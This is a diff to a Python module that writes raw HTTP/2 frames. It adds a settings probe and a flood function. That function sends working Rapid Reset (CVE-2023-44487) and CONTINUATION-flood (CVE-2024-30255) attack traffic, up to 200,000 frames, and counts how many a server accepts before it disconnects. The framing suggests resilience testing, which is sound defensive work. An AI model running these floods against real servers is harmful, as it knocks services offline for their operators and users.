@@ -1,18 +1,22 @@
-"""One HTTP/2 request, byte for byte as it is written here: what a library would refuse to send."""
+"""HTTP/2 byte for byte as it is written here: what a library would refuse to send. One request; or a flood of what costs
+its sender next to nothing."""
 
 import asyncio
+import contextlib
 import struct
 
 _STATUSES = {0x88: 200, 0x8C: 400, 0x8D: 404}  # of HPACK's static table
-_SETTINGS, _HEADERS, _ENDED, _GOAWAY = 4, 1, 3, 7
+_SETTINGS, _HEADERS, _ENDED, _GOAWAY, _CONTINUATION = 4, 1, 3, 7, 9
+_END_STREAM, _END_HEADERS = 1, 4
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+MOST = 200_000  # frames of a flood, if nobody stops it
 
 
 async def ask_by_http2(address, port, method="GET", path="/", headers=(), authority="orders"):
     """The status; 0 if the request was not answered at all."""
     reader, writer = await asyncio.open_connection(address, port)
-    pseudo = ((":method", method), (":scheme", "http"), (":authority", authority), (":path", path))
-    block = b"".join(b"\x10" + _literal(name) + _literal(value) for name, value in (*pseudo, *headers))
-    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, 5, 1, block))
+    block = _block(method, authority, path, headers)
+    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, _END_STREAM | _END_HEADERS, 1, block))
     try:
         async with asyncio.timeout(15):
             while True:
@@ -26,6 +30,57 @@ async def ask_by_http2(address, port, method="GET", path="/", headers=(), author
         return 0
     finally:
         writer.close()
+
+
+async def settings_by_http2(address, port):
+    """What a server says that it takes, by the number of the setting."""
+    reader, writer = await asyncio.open_connection(address, port)
+    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
+    async with asyncio.timeout(15):
+        head = await reader.readexactly(9)
+        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
+    writer.close()
+    assert head[3] == _SETTINGS
+    return dict(struct.iter_unpack(">HI", payload))
+
+
+async def flood_by_http2(connection, kind, path="/", authority="orders"):
+    """How many frames of a kind a peer took before it ended the connection, or MOST."""
+    reader, writer = await asyncio.open_connection(sock=connection)
+    ended = asyncio.ensure_future(_to_the_end(reader))
+    request = _block("GET", authority, path)
+    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
+    if kind == "continuations":
+        writer.write(_frame(_HEADERS, _END_STREAM, 1, request))
+    sent = 0
+    try:
+        while sent < MOST and not ended.done():
+            match kind:
+                case "resets":  # CVE-2023-44487
+                    stream = 2 * sent + 1
+                    writer.write(_frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, request))
+                    writer.write(_frame(_ENDED, 0, stream, struct.pack(">I", 8)))
+                case "continuations":  # CVE-2024-30255
+                    writer.write(_frame(_CONTINUATION, 0, 1, b"\x10" + _literal(f"x-{sent}") + _literal("v" * 100)))
+            await writer.drain()
+            sent += 1
+    except ConnectionError:
+        pass
+    finally:
+        ended.cancel()
+        writer.close()
+    return sent
+
+
+async def _to_the_end(reader):
+    with contextlib.suppress(ConnectionError):
+        while await reader.read(65536):
+            pass
+
+
+def _block(method, authority, path, headers=()):
+    pseudo = ((":method", method), (":scheme", "http"), (":authority", authority), (":path", path))
+    return b"".join(b"\x10" + _literal(name) + _literal(value) for name, value in (*pseudo, *headers))
 
 
 def _literal(text):
